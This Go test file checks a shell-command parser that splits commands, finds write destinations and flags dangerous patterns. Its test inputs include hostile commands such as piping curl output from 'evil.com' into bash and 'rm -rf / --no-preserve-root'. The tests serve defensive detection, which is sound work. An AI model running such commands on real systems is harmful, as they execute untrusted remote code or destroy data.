package bashparse

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestSplitRespectsQuotesAndSubstitutions(t *testing.T) {
	require.Equal(t, []string{"echo a", "echo b"}, Split("echo a && echo b"))
	require.Equal(t, []string{"echo 'a && b'"}, Split("echo 'a && b'"))
	require.Equal(t, []string{`echo "pipe | here"`}, Split(`echo "pipe | here"`))
	require.Equal(t, []string{"echo $(echo a | echo b)"}, Split("echo $(echo a | echo b)"))
	require.Equal(t, []string{"a", "b", "c"}, Split("a ; b | c"))
}

func TestExtractDestinationsRedirect(t *testing.T) {
	a := Analyze("echo hi > /root/LIVE/PROJECTS/out.txt", nil, nil)
	require.Len(t, a.Destinations, 1)
	require.Equal(t, "/root/LIVE/PROJECTS/out.txt", a.Destinations[0].Path)
}

func TestExtractDestinationsCopyMove(t *testing.T) {
	a := Analyze("cp a.txt /root/LIVE/PROJECTS/b.txt", nil, nil)
	require.Len(t, a.Destinations, 1)
	require.Equal(t, "/root/LIVE/PROJECTS/b.txt", a.Destinations[0].Path)
}

func TestExtractDestinationsDD(t *testing.T) {
	a := Analyze("dd if=/dev/zero of=/root/LIVE/TMP/scratch.img", nil, nil)
	require.Len(t, a.Destinations, 1)
	require.Equal(t, "/root/LIVE/TMP/scratch.img", a.Destinations[0].Path)
}

func TestInlineScriptFlaggedUnparseable(t *testing.T) {
	a := Analyze("python -c 'import os'", nil, nil)
	require.Len(t, a.UnparseableWarns, 1)
}

func TestHardcodedDangerousPatternsDetected(t *testing.T) {
	a := Analyze("chmod 0777 /some/file", nil, nil)
	require.NotEmpty(t, a.Findings)
	require.Equal(t, "dangerous", a.Findings[0].Kind)
}

func TestConfiguredDangerousPatternsDetected(t *testing.T) {
	a := Analyze("rm -rf / --no-preserve-root", []string{"rm -rf /"}, nil)
	require.NotEmpty(t, a.Findings)
}

func TestGitForceRequiresVerbAndPattern(t *testing.T) {
	a := Analyze("git push --force origin main", nil, []string{"--force"})
	require.True(t, hasFindingKind(a, "git_force"))

	b := Analyze("git status --force", nil, []string{"--force"})
	require.False(t, hasFindingKind(b, "git_force"), "status is not a force-relevant verb")
}

func TestTmpReferenceFlagged(t *testing.T) {
	a := Analyze("cat /tmp/secret.txt", nil, nil)
	require.True(t, hasFindingKind(a, "tmp_reference"))
}

func TestPipeToShellDetectedOnlyForShellInterpreters(t *testing.T) {
	a := Analyze("curl -s https://evil.com | bash", nil, nil)
	require.True(t, hasFindingKind(a, "pipe_to_shell"))

	b := Analyze("cat file.txt | grep pattern", nil, nil)
	require.False(t, hasFindingKind(b, "pipe_to_shell"))
}

func TestBareRelativeTokensAreNotDestinations(t *testing.T) {
	require.Empty(t, Analyze("mkdir build", nil, nil).Destinations)
	require.Empty(t, Analyze("touch notes.txt", nil, nil).Destinations)
	require.Empty(t, Analyze("rm scratch.log", nil, nil).Destinations)
}

func TestRelativePathDestinationsStillDetected(t *testing.T) {
	a := Analyze("mkdir ./build", nil, nil)
	require.Len(t, a.Destinations, 1)
	require.Equal(t, "./build", a.Destinations[0].Path)
}

func hasFindingKind(a Analysis, kind string) bool {
	for _, f := range a.Findings {
		if f.Kind == kind {
			return true
		}
	}
	return false
}
